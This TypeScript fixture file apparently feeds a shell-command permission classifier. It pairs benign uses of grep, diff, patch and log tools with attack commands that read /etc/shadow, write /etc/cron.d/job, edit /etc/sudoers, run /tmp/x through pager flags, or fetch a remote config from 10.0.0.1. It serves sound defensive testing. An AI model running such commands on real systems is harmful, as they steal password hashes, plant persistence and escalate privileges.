import type { ExampleTable } from './example.ts'

export const searchingAndComparing: ExampleTable = {
  ack: {
    use: 'ack TODO src → read src',
    attack: [
      'ack root /etc/shadow → read /etc/shadow',
      'ack --pager=/tmp/x TODO src → run /tmp/x; read src',
    ],
  },
  ag: {
    use: 'ag TODO src → read src',
    attack: [
      'ag root /etc/shadow → read /etc/shadow',
      'ag --pager /tmp/x TODO src → run /tmp/x; read src',
    ],
  },
  grep: {
    use: 'grep -rn TODO src → read src',
    attack: [
      'grep root /etc/shadow → read /etc/shadow',
      'grep -f /etc/shadow notes.txt → read /etc/shadow; read notes.txt',
    ],
  },
  ugrep: {
    use: 'ugrep -rn TODO src → read src',
    attack: [
      'ugrep root /etc/shadow → read /etc/shadow',
      "ugrep --filter='*:cat /etc/shadow' . x → read /etc/shadow; read x",
    ],
  },
  rg: {
    use: 'rg TODO src → read src',
    attack: [
      'rg root /etc/shadow → read /etc/shadow',
      'rg --pre /tmp/x TODO src → run /tmp/x; read src',
    ],
  },
  sift: {
    use: 'sift TODO main.c → read main.c',
    attack: [
      'sift . /etc/shadow → read /etc/shadow',
      'sift --output=/etc/cron.d/job . job.txt → read job.txt; write /etc/cron.d/job',
    ],
  },
  zipgrep: {
    use: 'zipgrep TODO docs.zip → read docs.zip',
  },
  bsdiff: {
    use: 'bsdiff app-1.bin app-2.bin app.patch → read app-1.bin; read app-2.bin; write app.patch',
    attack: 'bsdiff /dev/null /etc/shadow out.patch → read /etc/shadow; write out.patch',
  },
  bspatch: {
    use: 'bspatch app-1.bin app-2.bin app.patch → read app-1.bin; read app.patch; write app-2.bin',
    attack:
      'bspatch old.txt /etc/cron.d/job in.patch → read old.txt; read in.patch; write /etc/cron.d/job',
  },
  cmp: {
    use: 'cmp a.bin b.bin → read a.bin; read b.bin',
    attack: 'cmp -l /etc/shadow a.bin → read /etc/shadow; read a.bin',
  },
  combinediff: {
    use: 'combinediff a.diff b.diff → read a.diff; read b.diff',
  },
  delta: {
    use: 'delta old.c new.c → read old.c; read new.c',
    attack: [
      'delta /dev/null /etc/shadow → read /etc/shadow',
      'delta --pager /tmp/x old.c new.c → run /tmp/x; read old.c; read new.c',
    ],
  },
  dhex: {
    use: 'dhex firmware.bin → edit firmware.bin',
    attack: 'dhex /etc/sudoers → edit /etc/sudoers',
  },
  diff: {
    use: 'diff -u a.txt b.txt → read-tree a.txt; read-tree b.txt',
    attack: 'diff /etc/shadow /dev/null → read-tree /etc/shadow',
  },
  diff3: {
    use: 'diff3 -m mine.txt base.txt yours.txt → read mine.txt; read base.txt; read yours.txt',
    attack: 'diff3 -m /dev/null /dev/null /etc/shadow → read /etc/shadow',
  },
  diffoscope: {
    use: 'diffoscope old.deb new.deb → read old.deb; read new.deb',
    attack: [
      'diffoscope /etc/shadow /dev/null → read /etc/shadow',
      'diffoscope --text /etc/cron.d/job old.txt new.txt → read old.txt; read new.txt; write /etc/cron.d/job',
    ],
  },
  diffstat: {
    use: 'diffstat a.diff → read a.diff',
  },
  difft: {
    use: 'difft old.rs new.rs → read old.rs; read new.rs',
    attack: 'difft /dev/null /etc/shadow → read /etc/shadow',
  },
  dwdiff: {
    use: 'dwdiff old.txt new.txt → read old.txt; read new.txt',
    attack: 'dwdiff /etc/shadow /dev/null → read /etc/shadow',
  },
  filterdiff: {
    use: "filterdiff -i '*.c' all.diff → read all.diff",
    attack: 'filterdiff -x none /etc/shadow → read /etc/shadow',
  },
  graphtage: {
    use: 'graphtage old.json new.json → read old.json; read new.json',
  },
  grepdiff: {
    use: 'grepdiff malloc all.diff → read all.diff',
  },
  icdiff: {
    use: 'icdiff old.txt new.txt → read old.txt; read new.txt',
    attack: 'icdiff /etc/shadow /dev/null → read /etc/shadow',
  },
  imgdiff: {
    use: 'imgdiff boot.img recovery.img recovery.p → read boot.img; read recovery.img; write recovery.p',
    attack: 'imgdiff boot.img /etc/shadow out.p → read boot.img; read /etc/shadow; write out.p',
  },
  interdiff: {
    use: 'interdiff v1.diff v2.diff → read v1.diff; read v2.diff',
  },
  jd: {
    use: 'jd old.json new.json → read old.json; read new.json',
    attack:
      'jd -o /etc/cron.d/job old.json new.json → read old.json; read new.json; write /etc/cron.d/job',
  },
  'json-diff': {
    use: 'json-diff old.json new.json → read old.json; read new.json',
    attack: 'json-diff /etc/shadow new.json → read /etc/shadow; read new.json',
  },
  xxdiff: {
    use: 'xxdiff old.txt new.txt → read old.txt; read new.txt',
    attack: 'xxdiff /etc/shadow /etc/shadow- → read /etc/shadow; read /etc/shadow-',
  },
  tkdiff: {
    use: 'tkdiff old.txt new.txt → read old.txt; read new.txt',
    attack: [
      'tkdiff /etc/shadow /etc/shadow- → read /etc/shadow; read /etc/shadow-',
      'tkdiff -o /etc/cron.d/job old.txt new.txt → read old.txt; read new.txt; write /etc/cron.d/job',
    ],
  },
  bcompare: {
    use: 'bcompare old.txt new.txt → read old.txt; read new.txt',
    attack: 'bcompare /etc/shadow /etc/shadow- → read /etc/shadow; read /etc/shadow-',
  },
  lsdiff: {
    use: 'lsdiff all.diff → read all.diff',
  },
  meld: {
    use: 'meld old.txt new.txt → read old.txt; read new.txt',
    attack: [
      'meld /etc/shadow /etc/shadow- → read /etc/shadow; read /etc/shadow-',
      'meld -o /etc/cron.d/job mine.txt base.txt yours.txt → read mine.txt; read base.txt; read yours.txt; write /etc/cron.d/job',
    ],
  },
  merge: {
    use: 'merge mine.txt base.txt yours.txt → edit mine.txt; read base.txt; read yours.txt',
    attack:
      'merge /etc/sudoers base.txt yours.txt → edit /etc/sudoers; read base.txt; read yours.txt',
  },
  odiff: {
    use: 'odiff before.png after.png diff.png → read before.png; read after.png; write diff.png',
    attack:
      'odiff before.png after.png /etc/passwd → read before.png; read after.png; write /etc/passwd',
  },
  patch: {
    use: 'patch main.c fix.diff → edit main.c; read fix.diff',
    attack: [
      'patch /etc/sudoers in.diff → edit /etc/sudoers; read in.diff',
      'patch -d /etc/cron.d -i in.diff → unpack /etc/cron.d; read in.diff',
    ],
  },
  rdiff: {
    use: 'rdiff signature backup.tar backup.sig → read backup.tar; write backup.sig',
    attack: [
      'rdiff delta empty.sig /etc/shadow out.delta → read empty.sig; read /etc/shadow; write out.delta',
      'rdiff patch old.txt in.delta /etc/cron.d/job → read old.txt; read in.delta; write /etc/cron.d/job',
    ],
  },
  rediff: {
    use: 'rediff fix.diff fix-edited.diff → read fix.diff; read fix-edited.diff',
  },
  sdiff: {
    use: 'sdiff a.txt b.txt → read a.txt; read b.txt',
    attack: [
      'sdiff /etc/shadow /dev/null → read /etc/shadow',
      'sdiff -o /etc/cron.d/job a.txt b.txt → read a.txt; read b.txt; write /etc/cron.d/job',
    ],
  },
  splitdiff: {
    use: 'splitdiff -a series.diff → read series.diff',
  },
  vbindiff: {
    use: 'vbindiff old.bin new.bin → read old.bin; read new.bin',
    attack: 'vbindiff /etc/shadow /etc/shadow- → read /etc/shadow; read /etc/shadow-',
  },
  wdiff: {
    use: 'wdiff a.txt b.txt → read a.txt; read b.txt',
    attack: 'wdiff /etc/shadow /dev/null → read /etc/shadow',
  },
  xdelta3: {
    use: 'xdelta3 -e -s old.iso new.iso update.xd3 → read old.iso; read new.iso; write update.xd3',
    attack: [
      'xdelta3 -e /etc/shadow out.xd3 → read /etc/shadow; write out.xd3',
      'xdelta3 -d -s old.txt in.xd3 /etc/cron.d/job → read old.txt; read in.xd3; write /etc/cron.d/job',
    ],
  },
  xmldiff: {
    use: 'xmldiff old.xml new.xml → read old.xml; read new.xml',
    attack: 'xmldiff /etc/shadow new.xml → read /etc/shadow; read new.xml',
  },
  agrind: {
    use: `agrind -f app.log '* | json' → read app.log`,
    attack: `agrind -f /etc/shadow '*' → read /etc/shadow`,
  },
  goaccess: {
    use: 'goaccess access.log -o report.html --log-format=COMBINED → read access.log; write report.html',
    attack: [
      'goaccess /etc/shadow → read /etc/shadow',
      'goaccess -o /etc/cron.d/job access.log → read access.log; write /etc/cron.d/job',
    ],
  },
  lnav: {
    use: 'lnav app.log → read app.log',
    attack: [
      'lnav /etc/shadow → read /etc/shadow',
      "lnav -c ':sh /tmp/x' app.log → run /tmp/x; read app.log",
      "lnav -e 'cat /etc/shadow' → read /etc/shadow",
    ],
  },
  logcheck: {
    use: 'logcheck -c logcheck.conf → read logcheck.conf',
    attack: [
      'curl -so lc.conf http://10.0.0.1/c && logcheck -c lc.conf → execute ‹http://10.0.0.1/c›',
      'logcheck -o -l /etc/shadow → read /etc/shadow',
    ],
  },
  logtail: {
    use: 'logtail -f app.log -o app.offset → read app.log; write app.offset',
    attack: [
      'logtail /etc/shadow → read /etc/shadow',
      'logtail -f app.log -o /etc/cron.d/job → read app.log; write /etc/cron.d/job',
    ],
  },
  logwatch: {
    use: 'logwatch --mailto ann@example.com --detail high → send ann@example.com',
    attack: 'logwatch --filename /etc/cron.d/job → write /etc/cron.d/job',
  },
  lwatch: {
    use: 'lwatch -i app.log → read app.log',
    attack: 'lwatch -i /etc/shadow → read /etc/shadow',
  },
  multitail: {
    use: 'multitail app.log db.log → read app.log; read db.log',
    attack: [
      'multitail /etc/shadow → read /etc/shadow',
      "multitail -l 'cat /etc/shadow' app.log → read /etc/shadow; read app.log",
    ],
  },
  petit: {
    use: 'petit --hash app.log → read app.log',
    attack: 'petit --hash /etc/shadow → read /etc/shadow',
  },
  swatch: {
    use: 'swatch --config-file=swatch.conf --tail-file=app.log → read swatch.conf; read app.log',
    attack: [
      'swatch --tail-program-name=/tmp/x → run /tmp/x',
      'swatch --dump-script=/etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  dyff: {
    use: 'dyff between old.yml new.yml → read old.yml; read new.yml',
    attack: 'dyff between /etc/shadow new.yml → read /etc/shadow; read new.yml',
  },
  ydiff: { use: 'ydiff src/app.ts → nothing' },
}
